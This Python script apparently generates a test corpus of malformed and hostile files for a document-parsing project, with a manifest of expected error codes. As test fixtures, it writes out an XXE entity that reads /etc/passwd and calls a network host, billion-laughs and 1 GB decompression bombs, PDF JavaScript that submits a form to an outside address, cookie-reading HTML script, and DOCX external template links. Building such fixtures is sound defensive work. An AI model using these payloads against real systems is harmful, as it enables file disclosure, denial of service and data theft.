"""Generate the bad-input corpus in this folder and its manifest.json.

Run from the project root:  .venv/bin/python tests/data/bad/make_bad_inputs.py
The files are committed; rerun only to change the corpus. Deterministic except
the two PDFs printed by Chromium (their creation dates).

Every file maps to the error codes a careful reader may give it (the first is
the expected one; a second is listed only where two answers are both honest,
e.g. a truncated PDF that is "corrupt" or, once recovered, "not a report").
"""

from __future__ import annotations

import hashlib
import io
import json
import random
import subprocess
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))  # the project root, when run as a script

from tests.data.pdf_build import classic_pdf, rc4, security_r2  # noqa: E402
from tests.paths import FIXTURES, SEEDS  # noqa: E402

SEED_TXT = SEEDS / "000_0280ff8d4c297c03.txt"
SEED_PDF = FIXTURES / "seed_000.pdf"
SEED_DOCX = FIXTURES / "seed_000.docx"
CHROMIUM = "/usr/bin/chromium"

NOTICE_ZH = (
    "关于召开2023年春季职工运动会的通知\n各科室、各下属单位：\n"
    "为丰富职工文化生活，经研究，定于2023年4月15日在市体育中心举行春季职工运动会。"
    "请各单位于4月1日前报送参赛名单，联系人：办公室，电话：0371-12345678。\n特此通知。\n"
    "市政府办公室\n2023年3月20日\n"
)
RNG = random.Random(20240501)

# ---------------------------------------------------------------- text material


def seed_lines() -> list[str]:
    """The seed report's lines."""
    return SEED_TXT.read_text(encoding="utf-8").splitlines()


def narrative_only() -> str:
    """The seed report with every table removed (headings and prose kept)."""
    return "\n".join(line for line in seed_lines() if "|" not in line) + "\n"


def only_table4() -> str:
    """The seed report with tables 2 and 3 removed: prose plus table 4."""
    lines = seed_lines()
    start = next(i for i, line in enumerate(lines) if line.startswith("四、") and "行政复议" in line)
    return "\n".join(line for i, line in enumerate(lines) if "|" not in line or i > start) + "\n"


def table3_without_numbers() -> str:
    """The seed report whose table-3 rows keep their labels but lost every number."""
    out = []
    for line in seed_lines():
        cells = [c.strip() for c in line.split("|")]
        if "|" in line and any(c.isdigit() for c in cells) and not cells[0].isdigit():
            line = " | ".join(c for c in cells if not c.isdigit())
        out.append(line)
    return "\n".join(out) + "\n"


# ----------------------------------------------------------------- PDF building


def png_up(data: bytes, columns: int) -> bytes:
    """Apply the PNG "Up" predictor: each row becomes its byte-wise difference from the row above."""
    assert len(data) % columns == 0
    out, previous = bytearray(), bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        out.append(2)
        out.extend((a - b) % 256 for a, b in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", compress: bool = True, columns: int = 0) -> bytes:
    """A PDF stream object body, Flate-compressed unless told otherwise (with a PNG predictor if columns)."""
    if columns:
        data = png_up(data, columns)
        extra += b" /DecodeParms << /Predictor 12 /Columns %d >>" % columns
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page_pdf(
    content: bytes, resources: bytes, extra_objects: list[bytes] = (), catalog_extra: bytes = b""
) -> bytes:
    """Catalog, pages, one page with the given content stream and resources, then extra objects (6+)."""
    return classic_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 5 0 R >>",
            stream(content),
            resources,
            *extra_objects,
        ]
    )


HELVETICA = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def pdf_image_only() -> bytes:
    """A scan: one page holding one grey image and no text operators at all."""
    width, height = 300, 150
    pixels = bytes((x * 7 + y * 3) % 256 for y in range(height) for x in range(width))
    image = stream(
        pixels,
        b" /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8" % (width, height),
    )
    content = b"q 500 0 0 250 50 500 cm /Im1 Do Q"
    return one_page_pdf(content, b"<< /XObject << /Im1 6 0 R >> >>", [image])


def pdf_javascript() -> bytes:
    """A short English letter whose catalog runs JavaScript on open (must never execute)."""
    content = b"BT /F1 14 Tf 72 760 Td (Dear colleague, please find the minutes attached.) Tj ET"
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://10.255.255.1/'\\);) >>"
    return one_page_pdf(content, HELVETICA, [action], catalog_extra=b"/OpenAction 6 0 R ")


def pdf_zero_pages() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    return classic_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_content_bomb() -> bytes:
    """One page whose content stream inflates from ~1 MB to 1 GB of spaces."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 24)
    packed = b"".join(compressor.compress(chunk) for _ in range(64)) + compressor.flush()
    page_stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    return classic_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 5 0 R >>",
            page_stream,
            HELVETICA,
        ]
    )


def pdf_encrypted(user_password: bytes = b"secret", owner_password: bytes = b"owner") -> bytes:
    """A one-page PDF encrypted with a user password (RC4-40, revision 2)."""
    file_id = hashlib.md5(b"gip-bad-encrypted").digest()
    permissions = -44
    key, owner, user = security_r2(user_password, owner_password, permissions, file_id)

    def encrypt(number: int, data: bytes) -> bytes:
        object_key = hashlib.md5(key + number.to_bytes(3, "little") + b"\0\0").digest()[:10]
        return rc4(object_key, data)

    content = encrypt(4, b"BT /F1 14 Tf 72 760 Td (Secret annual figures) Tj ET")
    encrypt_dict = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (
        owner.hex().encode(),
        user.hex().encode(),
        permissions,
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 5 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        HELVETICA,
        encrypt_dict,
    ]
    return classic_pdf(
        objects, trailer=b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (file_id.hex().encode(), file_id.hex().encode())
    )


def _pad(text: bytes, row: int) -> bytes:
    """Right-pad with spaces to a multiple of the predictor row width."""
    return text + b" " * (-len(text) % row)


def pdf_million_objects(leaves: int = 1_000_000, fanout: int = 1000) -> bytes:
    """A page tree of a million tiny page objects, packed in compressed object streams.

    Numbers are zero-padded and bodies space-padded so that every object-stream
    entry fills whole predictor rows: with the PNG "Up" predictor, incrementing
    numbers become runs of tiny differences and the file stays small.
    """
    nodes = leaves // fanout
    first_leaf = 3 + nodes
    top = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/MediaBox[0 0 595 842]/Count %d/Kids[%s]>>"
        % (leaves, b" ".join(b"%d 0 R" % (3 + n) for n in range(nodes))),
    }
    middle = {
        3 + n: _pad(b"<</Type/Pages/Parent 2 0 R/Count %d/Kids[" % fanout, 24)
        + b"".join(b"%07d 0 R " % k for k in range(first_leaf + n * fanout, first_leaf + (n + 1) * fanout))
        + _pad(b"]>>", 24)
        for n in range(nodes)
    }
    leaf_groups = []
    for start in range(first_leaf, first_leaf + leaves, 50_000):
        numbers = range(start, min(start + 50_000, first_leaf + leaves))
        leaf_groups.append(
            {
                k: _pad(b"<</Type/Page/Parent %07d 0 R>>" % (3 + (k - first_leaf) // fanout), 36)
                for k in numbers
            }
        )
    return _pdf_with_object_streams([(top, 0), (middle, 24), *((group, 36) for group in leaf_groups)])


def _object_stream(bodies: dict[int, bytes], row: int) -> bytes:
    """One /ObjStm holding the bodies; with ``row``, fixed-width entries and a PNG predictor."""
    header, offset = [], 0
    for number, body in bodies.items():
        header.append(b"%07d %0*d " % (number, row - 9, offset) if row else b"%d %d " % (number, offset))
        offset += len(body) if row else len(body) + 1
    head = b"".join(header)
    payload = b"".join(bodies.values()) if row else b"\n".join(bodies.values())
    return stream(head + payload, b" /Type /ObjStm /N %d /First %d" % (len(bodies), len(head)), columns=row)


def _pdf_with_object_streams(groups: list[tuple[dict[int, bytes], int]]) -> bytes:
    """Write each group of bodies as one object stream and index everything with one xref stream."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    next_number = max(max(group) for group, _ in groups) + 1
    entries: dict[int, tuple[int, int, int]] = {}
    for group, row in groups:
        for index, number in enumerate(group):
            entries[number] = (2, next_number, index)
        entries[next_number] = (1, out.tell(), 0)
        out.write(b"%d 0 obj\n" % next_number + _object_stream(group, row) + b"\nendobj\n")
        next_number += 1
    xref_number = next_number
    entries[xref_number] = (1, out.tell(), 0)
    rows = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
        for kind, a, b in (entries[n] for n in range(1, xref_number + 1))
    )
    xref_body = stream(rows, b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1), columns=7)
    position = out.tell()
    out.write(b"%d 0 obj\n" % xref_number + xref_body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % position)
    return out.getvalue()


def chromium_pdf(html: str) -> bytes:
    """Print an HTML page to PDF with the system Chromium (real embedded CJK fonts)."""
    with tempfile.TemporaryDirectory() as tmp:
        source, target = Path(tmp) / "in.html", Path(tmp) / "out.pdf"
        source.write_text(html, encoding="utf-8")
        subprocess.run(
            [
                CHROMIUM,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--no-first-run",
                "--disable-sync",
                "--no-pdf-header-footer",
                f"--user-data-dir={tmp}/profile",
                f"--print-to-pdf={target}",
                source.as_uri(),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        return target.read_bytes()


def html_page(text: str, head: str = "") -> str:
    """Paragraphs of text as a UTF-8 HTML page."""
    body = "".join(f"<p>{line}</p>" for line in text.splitlines() if line.strip())
    return f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}<title>文档</title></head><body>{body}</body></html>'


# ---------------------------------------------------------------- DOCX building

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document_xml(text: str, doctype: str = "", body_extra: str = "") -> str:
    """word/document.xml with one paragraph per line of text."""
    paragraphs = "".join(
        f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines() if line.strip()
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
        f"<w:document {W_NS}><w:body>{paragraphs}{body_extra}</w:body></w:document>"
    )


def docx(
    document: str | None,
    *,
    main: str = DOCX_MAIN,
    extra_parts: dict[str, bytes] | None = None,
    extra_types: str = "",
    document_rels: str | None = None,
) -> bytes:
    """A DOCX package; ``document=None`` leaves out word/document.xml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main, extra=extra_types))
        package.writestr("_rels/.rels", ROOT_RELS)
        if document is not None:
            package.writestr("word/document.xml", document)
        if document_rels is not None:
            package.writestr("word/_rels/document.xml.rels", document_rels)
        for name, data in (extra_parts or {}).items():
            package.writestr(name, data)
    return buffer.getvalue()


def docx_zip_bomb(gigabytes: int = 1) -> bytes:
    """word/document.xml = a paragraph followed by 1 GB of spaces, deflated to about 1 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN, extra=""))
        package.writestr("_rels/.rels", ROOT_RELS)
        with package.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(f'<?xml version="1.0"?><w:document {W_NS}><w:body><w:p><w:r><w:t>'.encode())
            chunk = b" " * (1 << 24)
            for _ in range(64 * gigabytes):
                member.write(chunk)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return buffer.getvalue()


def docx_external_relationship() -> bytes:
    """A DOCX whose image and template point at network addresses (must never be fetched)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://10.255.255.1/track.png" TargetMode="External"/>'
        '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="file://10.255.255.1/share/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(document_xml(NOTICE_ZH), document_rels=rels)


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)
XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://10.255.255.1/x">]>'


# ---------------------------------------------------------------- HTML and TXT


def html_deep_nesting(depth: int = 50_000) -> bytes:
    """Tables nested fifty thousand deep."""
    return (
        "<html><body>" + "<table><tr><td>" * depth + "深" + "</td></tr></table>" * depth + "</body></html>"
    ).encode()


def html_external_resources() -> bytes:
    """A page that would load scripts, styles, frames and images from the network if rendered."""
    head = (
        '<link rel="stylesheet" href="http://10.255.255.1/a.css"><script src="http://10.255.255.1/a.js"></script>'
        '<meta http-equiv="refresh" content="0;url=http://10.255.255.1/">'
    )
    page = html_page(NOTICE_ZH, head)
    return page.replace(
        "</body>",
        '<img src="http://10.255.255.1/t.png"><iframe src="http://10.255.255.1/"></iframe>'
        '<object data="http://10.255.255.1/x.swf"></object></body>',
    ).encode()


def html_script() -> bytes:
    """A page full of script, event handlers and javascript: links."""
    page = html_page(NOTICE_ZH, "<script>alert(document.cookie)</script>")
    return page.replace(
        "<body>",
        '<body onload="alert(1)"><a href="javascript:alert(2)">点我</a>'
        "<img src=x onerror=alert(3)><svg><script>alert(4)</script></svg>",
    ).encode()


def random_bytes(size: int) -> bytes:
    """Reproducible random bytes."""
    return bytes(RNG.getrandbits(8) for _ in range(size))


def zip_archive() -> bytes:
    """A plain zip archive of a text file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", NOTICE_ZH)
    return buffer.getvalue()


PNG = bytes.fromhex(
    "89504E470D0A1A0A0000000D49484452000000010000000108060000001F15C4890000000D4944415478DA63F8FFFF3F0005FE02FEA7D6A4F30000000049454E44AE426082"
)
JPEG_HEAD = (
    bytes.fromhex("FFD8FFE000104A46494600010100000100010000FFDB004300") + random_bytes(400) + b"\xff\xd9"
)


# ---------------------------------------------------------------- the corpus

Maker = Callable[[], bytes]
CORPUS: dict[str, tuple[Maker, list[str], str]] = {
    # name: (maker, acceptable error codes, what it is)
    "pdf_truncated_header.pdf": (
        lambda: SEED_PDF.read_bytes()[:400],
        ["corrupt-file"],
        "a PDF cut after 400 bytes",
    ),
    "pdf_truncated_half.pdf": (
        lambda: SEED_PDF.read_bytes()[: len(SEED_PDF.read_bytes()) // 2],
        ["corrupt-file", "not-a-report"],
        "a report PDF cut in half",
    ),
    "pdf_encrypted.pdf": (pdf_encrypted, ["encrypted-file"], "RC4-encrypted PDF with a user password"),
    "pdf_image_only.pdf": (
        pdf_image_only,
        ["not-a-report", "empty-file"],
        "a scan: one image, no text layer (read by OCR: no report tables on it)",
    ),
    "pdf_million_objects.pdf": (
        pdf_million_objects,
        ["file-too-large"],
        "a page tree of 1,000,000 tiny objects",
    ),
    "pdf_content_bomb.pdf": (
        pdf_content_bomb,
        ["parse-limit", "corrupt-file", "empty-file", "file-too-large"],
        "a page whose content stream inflates to 1 GB",
    ),
    "pdf_not_a_report.pdf": (
        lambda: chromium_pdf(html_page(NOTICE_ZH)),
        ["not-a-report"],
        "a Chinese notice",
    ),
    "pdf_tables_missing.pdf": (
        lambda: chromium_pdf(html_page(narrative_only())),
        ["not-a-report"],
        "the report's prose with every table missing",
    ),
    "pdf_javascript.pdf": (pdf_javascript, ["not-a-report"], "a letter with an OpenAction JavaScript"),
    "pdf_zero_pages.pdf": (pdf_zero_pages, ["empty-file", "corrupt-file"], "a PDF with an empty page tree"),
    "pdf_png_renamed.pdf": (
        lambda: PNG,
        ["corrupt-file"],
        "a PNG image named .pdf (read as an image by its content; this one is cut short)",
    ),
    "docx_zero_bytes.docx": (lambda: b"", ["empty-file"], "0 bytes named .docx"),
    "docx_empty_document.docx": (lambda: docx(document_xml("")), ["empty-file"], "a DOCX with an empty body"),
    "docx_corrupt_zip.docx": (
        lambda: b"PK\x03\x04" + random_bytes(3000),
        ["corrupt-file"],
        "zip magic, then noise",
    ),
    "docx_truncated.docx": (
        lambda: SEED_DOCX.read_bytes()[: len(SEED_DOCX.read_bytes()) // 2],
        ["corrupt-file"],
        "a report DOCX cut in half",
    ),
    "docx_zip_bomb.docx": (docx_zip_bomb, ["file-too-large"], "document.xml inflating to 1 GB"),
    "docx_macro.docm": (
        lambda: docx(
            document_xml(NOTICE_ZH),
            main=DOCM_MAIN,
            extra_parts={"word/vbaProject.bin": random_bytes(512)},
            extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        ["unsupported-format"],
        "a macro-enabled Word file",
    ),
    "docx_xxe.docx": (
        lambda: docx(document_xml("外部实体 &xxe; &net;", doctype=XXE)),
        ["not-a-report", "corrupt-file"],
        "document.xml declaring file:// and http:// external entities",
    ),
    "docx_billion_laughs.docx": (
        lambda: docx(document_xml("&lol9;", doctype=BILLION_LAUGHS)),
        ["corrupt-file"],
        "document.xml with nested entity expansion",
    ),
    "docx_external_relationship.docx": (
        docx_external_relationship,
        ["not-a-report"],
        "external image and template relationships",
    ),
    "docx_jpeg_renamed.docx": (
        lambda: JPEG_HEAD,
        ["corrupt-file"],
        "a JPEG image named .docx (read as an image by its content; its data is garbage)",
    ),
    "docx_tables_missing.docx": (
        lambda: docx(document_xml(narrative_only())),
        ["not-a-report"],
        "the report's prose with every table missing",
    ),
    "docx_no_document_part.docx": (
        lambda: docx(None),
        ["unsupported-format", "corrupt-file"],
        "a package without word/document.xml",
    ),
    "html_script.html": (html_script, ["not-a-report"], "scripts, event handlers, javascript: links"),
    "html_xxe.html": (
        lambda: (XXE + html_page("外部实体 &xxe; &net;")[15:]).encode(),
        ["not-a-report"],
        "a DOCTYPE declaring file:// and http:// external entities",
    ),
    "html_billion_laughs.html": (
        lambda: (BILLION_LAUGHS + html_page("&lol9;")[15:]).encode(),
        ["not-a-report"],
        "nested entity expansion",
    ),
    "html_deep_nesting.html": (
        html_deep_nesting,
        ["empty-file", "not-a-report", "corrupt-file"],
        "tables nested 50,000 deep",
    ),
    "html_gbk_declared_utf8.html": (
        lambda: html_page(NOTICE_ZH).encode("gbk"),
        ["not-a-report"],
        "GBK bytes under <meta charset=utf-8>",
    ),
    "html_external_resources.html": (
        html_external_resources,
        ["not-a-report"],
        "network scripts, frames, images",
    ),
    "html_tables_missing.html": (
        lambda: html_page(narrative_only()).encode(),
        ["not-a-report"],
        "the report's prose with every table missing",
    ),
    "html_empty_body.html": (
        lambda: b"<!DOCTYPE html><html><head><title></title></head><body>  </body></html>",
        ["empty-file"],
        "an HTML page with no text",
    ),
    "txt_zero_bytes.txt": (lambda: b"", ["empty-file"], "0 bytes"),
    "txt_whitespace.txt": (lambda: b" \n\t\r\n   \n" * 100, ["empty-file"], "only whitespace"),
    "txt_binary_garbage.txt": (
        lambda: random_bytes(20_000),
        ["corrupt-file", "unsupported-format"],
        "random bytes named .txt",
    ),
    "txt_gbk_declared_utf8.txt": (
        lambda: b"\xef\xbb\xbf" + NOTICE_ZH.encode("gbk"),
        ["not-a-report", "corrupt-file"],
        "GBK bytes behind a UTF-8 byte-order mark",
    ),
    "txt_utf16_no_bom.txt": (lambda: NOTICE_ZH.encode("utf-16-le"), ["not-a-report"], "UTF-16LE without BOM"),
    "txt_numbers_only.txt": (
        lambda: "\n".join(" ".join(str(RNG.randint(0, 999)) for _ in range(9)) for _ in range(300)).encode(),
        ["not-a-report"],
        "numbers only",
    ),
    "txt_long_line.txt": (lambda: ("政府信息公开" * 170_000).encode(), ["not-a-report"], "one 3 MB line"),
    "txt_tables_missing.txt": (
        lambda: narrative_only().encode(),
        ["not-a-report"],
        "the report's prose with every table missing",
    ),
    "txt_only_table4.txt": (lambda: only_table4().encode(), ["not-a-report"], "a report with only table 4"),
    "txt_table3_no_numbers.txt": (
        lambda: table3_without_numbers().encode(),
        ["unreadable-table"],
        "table 3 labels with every number missing",
    ),
    "txt_nul_bytes.txt": (
        lambda: NOTICE_ZH.encode().replace(b"\n", b"\0" * 50),
        ["corrupt-file", "not-a-report"],
        "text with runs of NUL bytes",
    ),
    "txt_zip_renamed.txt": (zip_archive, ["unsupported-format", "corrupt-file"], "a zip archive named .txt"),
}


# Text that must never appear in what a reader returns for these files (a leaked local file, an expansion).
FORBIDDEN = {
    "docx_xxe.docx": ["root:", "/bin/"],
    "html_xxe.html": ["root:", "/bin/"],
    "docx_billion_laughs.docx": ["lollollollol"],
    "html_billion_laughs.html": ["lollollollol"],
}


def main() -> None:
    """Write every corpus file and manifest.json next to this script."""
    manifest = {}
    for name, (make, codes, what) in CORPUS.items():
        data = make()
        (HERE / name).write_bytes(data)
        manifest[name] = {
            "codes": codes,
            "what": what,
            "bytes": len(data),
            "forbidden": FORBIDDEN.get(name, []),
        }
        print(f"{name:36} {len(data):>10,} bytes  {codes}")
    (HERE / "manifest.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )


if __name__ == "__main__":
    main()
